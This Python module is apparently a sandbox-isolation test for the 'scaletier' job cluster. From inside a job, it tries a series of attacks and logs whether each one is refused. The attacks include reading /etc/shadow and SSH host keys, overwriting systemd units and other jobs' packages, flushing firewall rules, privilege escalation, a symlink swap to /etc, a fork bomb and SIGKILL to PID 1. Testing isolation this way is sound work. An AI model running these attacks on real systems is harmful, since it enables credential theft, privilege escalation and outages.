"""Attack the host and other jobs in each of these ways: `python -m hostile.task --victim job01 --try forge keys`.

JOB_DIR/outcomes.json has the outcome of each attack: `refused: WHY`, or what it got.
"""

import argparse
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

HOME, BUCKET = Path("/var/lib/scaletier"), Path("/bucket")
OUT = Path(os.environ["JOB_DIR"])
JOB = os.environ["JOB_ID"]
MOST = 1 << 33


def each(*tries: Callable[[], object]) -> str:
    """Make several tries; return the result of the first that is not refused."""
    why = ""
    for attempt in tries:
        try:
            return f"got {attempt()!r}"
        except (OSError, subprocess.SubprocessError) as error:
            why = f"refused: {error}"
    return why


def forge(victim: str) -> str:
    """Write records: this job's and another's, and the queue."""
    names = [f"jobs/{job}/{name}" for job in (JOB, victim) for name in ("job.json", "cancel.json", "replicas/master-0.json")]
    return each(*(lambda name=name: (BUCKET / name).write_text("{}") for name in (*names, "cluster/queue.json", "mine")))


def alter(victim: str) -> str:
    """Change programs of others, and whose connections are accepted."""
    places = [BUCKET / f"jobs/{victim}/package.tar.gz", BUCKET / "data/mine", HOME / f"jobs/{victim}/package/mine"]
    code = [Path("/opt/scaletier/hosts/VERSION"), Path("/opt/scaletier/venv/mine"), HOME / ".config/fsspec/conf.json"]
    units = [Path("/etc/systemd/system/scaletier.service"), Path("/usr/lib/scaletier/launch"), HOME / "logs/newest"]
    firewall = [Path("/run/scaletier/peers"), Path("/etc/scaletier/network")]
    rule = ["ip", "-4", "rule", "add", "pref", "9", "lookup", "main"]
    return each(
        *(lambda path=path: path.write_text("evil") for path in (*places, *code, *units, *firewall)),
        lambda: subprocess.run(rule, check=True, capture_output=True),
        lambda: subprocess.run(["nft", "flush", "ruleset"], check=True, capture_output=True),
    )


def read(victim: str) -> str:
    """Read files of the cluster or of another job."""
    files = [f"jobs/{victim}/{name}" for name in ("job.json", "package.tar.gz", "output/secret.txt")]
    here = [HOME / "secrets" / f"{JOB}.json", Path("/etc/scaletier/host.json")]
    folders = [BUCKET / "jobs" / victim, HOME / "secrets", HOME / f"jobs/{victim}", HOME / f"logs/{victim}"]
    return each(
        *(
            lambda path=path: path.read_bytes()[:20]
            for path in (*(BUCKET / name for name in (*files, "cluster/queue.json")), *here)
        ),
        *(lambda path=path: list(path.iterdir()) for path in folders),
    )


def keys(_: str) -> str:
    """Read the keys of the host and of its users."""
    paths = ("/etc/ssh/ssh_host_ed25519_key", "/home/admin/.ssh/authorized_keys", "/etc/shadow", "/root/.bashrc")
    return each(
        *(lambda path=path: Path(path).read_bytes()[:20] for path in paths), lambda: list(Path("/home/scaletier").iterdir())
    )


def rise(_: str) -> str:
    """Become another user."""
    sudo, su = shutil.which("sudo") or "/usr/bin/sudo", shutil.which("su") or "/bin/su"
    return each(
        lambda: subprocess.run([sudo, "-n", "id"], check=True, capture_output=True).stdout,
        lambda: subprocess.run([su, "-c", "id"], check=True, capture_output=True, stdin=subprocess.DEVNULL).stdout,
        lambda: subprocess.run(["unshare", "-Ur", "id"], check=True, capture_output=True).stdout,
        lambda: os.setuid(0),
        lambda: (OUT / "file").write_text("") or (OUT / "file").chmod(0o4755),
        lambda: os.chown(OUT / "file", 0, -1),
        lambda: os.chown(OUT / "file", -1, 0),
    )


def ask(_: str) -> str:
    """Ask the launcher or another service to start a program."""

    def connect(path: str) -> str:
        with socket.socket(socket.AF_UNIX) as channel:
            channel.connect(path)
            return path

    paths = ("/run/scaletier/launch.sock", "/run/systemd/private", "/run/dbus/system_bus_socket", "/dev/lxd/sock")
    return each(*(lambda path=path: connect(path) for path in paths))


def knock(_: str) -> str:
    """Connect to this host's sshd, which lets a limited number of connections wait for a login."""
    return each(*(lambda host=host: socket.create_connection((host, 22), 5) for host in ("127.0.0.1", "::1")))


def reach(_: str) -> str:
    """Reach processes of others."""
    pids = [int(path.name) for path in Path("/proc").iterdir() if path.name.isdecimal()]
    strange = [pid for pid in pids if Path(f"/proc/{pid}").stat().st_uid != os.getuid()]
    return each(lambda: os.kill(strange[0], 0) if strange else os.kill(1, signal.SIGKILL))


def swap(_: str) -> str:
    """Put a link in the place of a folder into which root writes at the next push."""
    package = Path(__file__).resolve().parents[1]
    own = package.parent
    return each(
        lambda: package.rename(own / "sandbox"),
        lambda: own.rename(own.with_name("sandbox")),
        lambda: (own.parent / "next").symlink_to("/etc"),
        lambda: (own / "link").symlink_to("/etc"),
    )


def fill(_: str) -> str:
    """Fill /tmp, and leave it so."""
    written = 0
    try:
        with Path("/tmp/filled").open("wb", buffering=0) as file:
            while written < MOST:
                written += file.write(bytes(1 << 20))
    except OSError as error:
        return f"refused: {error} after {written >> 20} MiB"
    return f"got {written} bytes"


def outlive(_: str) -> str:
    """Continue in another session when the job is over."""
    if os.fork() == 0:
        os.setsid()
        for number in (signal.SIGTERM, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for descriptor in (0, 1, 2):
                os.dup2(null, descriptor)
            while True:
                (OUT / "alive").write_text(str(time.time()))
                time.sleep(0.1)
        os._exit(0)
    return "started"


def bomb(_: str) -> str:
    """Start processes until there can be no more, and let all of them burn processors for a while."""
    started = 0
    waits, go = os.pipe()
    try:
        while True:
            if os.fork() == 0:
                os.close(go)
                os.read(waits, 1)  # nothing, once the parent has closed its end
                end = time.monotonic() + 3
                while time.monotonic() < end:
                    pass
                os._exit(0)
            started += 1
    except OSError as error:
        os.close(go)
        time.sleep(3)
        return f"refused: {error} after {started}"


ATTACKS = {attack.__name__: attack for attack in (forge, alter, read, keys, rise, ask, knock, reach, swap, fill, outlive, bomb)}


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--victim", default="")
    parser.add_argument("--try", dest="names", nargs="+", default=list(ATTACKS))
    args, _ = parser.parse_known_args()
    outcomes = {}
    for name in args.names:
        outcomes[name] = ATTACKS[name](args.victim)
        print(f"{name}: {outcomes[name]}", flush=True)
        (OUT / "outcomes.json").write_text(json.dumps(outcomes))
    return 0


if __name__ == "__main__":
    sys.exit(main())
